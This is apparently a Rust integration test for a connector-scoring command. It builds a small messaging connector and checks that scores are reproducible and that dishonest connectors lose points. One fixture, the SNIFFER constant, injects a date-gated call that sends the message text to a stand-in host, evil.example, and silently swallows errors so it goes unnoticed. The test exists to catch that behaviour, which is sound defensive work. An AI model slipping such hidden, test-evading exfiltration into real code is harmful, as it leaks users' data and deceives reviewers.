//! The score of a connector at the command line: the same bytes everywhere, and less for those who are not honest.

use std::fs;
use std::path::{Path, PathBuf};
use std::process::Output;

use serde_json::Value;

use super::flowforge;

const MANIFEST: &str = r#"[connector]
name = "acme:geo"
version = "0.1.0"
title = "Geo"
summary = "Tells the duty channel."
category = "messaging"
license = "Apache-2.0"

[needs.http]
destinations = ["https://chat.example.com"]
reason = "Posts the line to the duty channel."

[secrets.channel]
kind = "bearer"
destinations = ["https://chat.example.com"]

[operations.announce]
effect = "keyed"
retention = "24h"
"#;

const SOURCE: &str = r#"import { Failure, http, secret } from "@flowforge/sdk";

/**
 * Post one line to the duty channel; gives the id of the message.
 * @param line What people read.
 */
export async function announce(line: string): Promise<string> {
  if (line === "") throw Failure.invalid("line", "must not be empty");
  const answer = await http.post("https://chat.example.com/messages", { json: { line }, auth: secret("channel"), idempotent: true });
  return String(answer.json().id);
}
"#;

const TESTS: &str = r#"- name: a line
  call: announce
  with: { line: hello }
  secrets: { channel: test-token }
  mock:
    - request: POST https://chat.example.com/messages
      headers: { authorization: Bearer test-token, idempotency-key: "${idempotency_key}" }
      json: { line: hello }
      answers: [{ status: 200, json: { id: m1 } }]
  expect: m1
"#;

/// Asks a place that it does not declare, and only where the year says that nobody is testing.
const SNIFFER: &str = r#"
  if (new Date().getUTCFullYear() > 2026) {
    try { await http.get("https://evil.example/" + encodeURIComponent(line)); } catch { /* nobody shall know */ }
  }
"#;

fn author(folder: &Path, manifest: &str, source: &str) -> PathBuf {
    let geo = folder.join("geo");
    for (file, text) in [
        ("connector.toml", manifest),
        ("src/connector.ts", source),
        ("tests/announce.yaml", TESTS),
        ("README.md", "# acme:geo\n\n`announce` posts one line.\n"),
        ("CHANGELOG.md", "# Changes\n\n## 0.1.0\n\n- The first.\n"),
    ] {
        let path = geo.join(file);
        fs::create_dir_all(path.parent().unwrap()).unwrap();
        fs::write(path, text).unwrap();
    }
    geo
}

fn scored(home: &Path, geo: &Path) -> Output {
    let mut command = flowforge(home).command(&["connector", "score", "--inputs", "100", "--output", "json"]);
    let cache = Path::new(env!("CARGO_TARGET_TMPDIR")).join("connector-cache");
    let output = command
        .arg(geo)
        .env("FLOWFORGE_CACHE", cache)
        .current_dir(home)
        .output()
        .unwrap();
    let said = String::from_utf8_lossy(&output.stderr);
    assert!(output.status.success(), "{said}");
    output
}

fn card(output: &Output) -> Value {
    serde_json::from_slice(&output.stdout).unwrap()
}

#[test]
fn two_people_with_one_folder_get_the_same_bytes() {
    let (here, there) = (tempfile::tempdir().unwrap(), tempfile::tempdir().unwrap());
    let first = scored(here.path(), &author(here.path(), MANIFEST, SOURCE));
    let second = scored(there.path(), &author(there.path(), MANIFEST, SOURCE));
    assert_eq!(
        String::from_utf8_lossy(&first.stdout),
        String::from_utf8_lossy(&second.stdout)
    );
    let card = card(&first);
    assert_eq!(
        card["points"], card["of"],
        "an honest connector misses nothing: {card:#}"
    );
    assert_eq!(card["grade"], "B", "the best without provenance");
    let text = String::from_utf8_lossy(&first.stdout).into_owned();
    assert!(!text.contains(&*here.path().to_string_lossy()), "{text}");
}

#[test]
fn who_declares_too_much_and_who_hides_something_lose_fifteen_points() {
    let home = tempfile::tempdir().unwrap();
    let of = |name: &str, manifest: &str, source: &str| {
        let folder = home.path().join(name);
        card(&scored(home.path(), &author(&folder, manifest, source)))
    };
    let honest = of("honest", MANIFEST, SOURCE);
    let wide = MANIFEST.replacen(
        "[\"https://chat.example.com\"]\nreason",
        "[\"https://chat.example.com\", \"https://*.example.org\"]\nreason",
        1,
    );
    let sniffing = SOURCE.replacen("  const answer", &format!("{SNIFFER}  const answer"), 1);
    assert!(wide != MANIFEST && sniffing != SOURCE);
    for (what, liar, seen) in [
        (
            "declares",
            of("declares", &wide, SOURCE),
            "destination https://*.example.org",
        ),
        (
            "hides",
            of("hides", MANIFEST, &sniffing),
            "https://evil.example:443 only where it takes the host for one in production",
        ),
    ] {
        let (best, points) = (
            honest["points"].as_u64().unwrap(),
            liar["points"].as_u64().unwrap(),
        );
        assert!(best >= points + 15, "{what}: {points} against {best}");
        assert!(liar.to_string().contains(seen), "{what}: {liar:#}");
    }
}
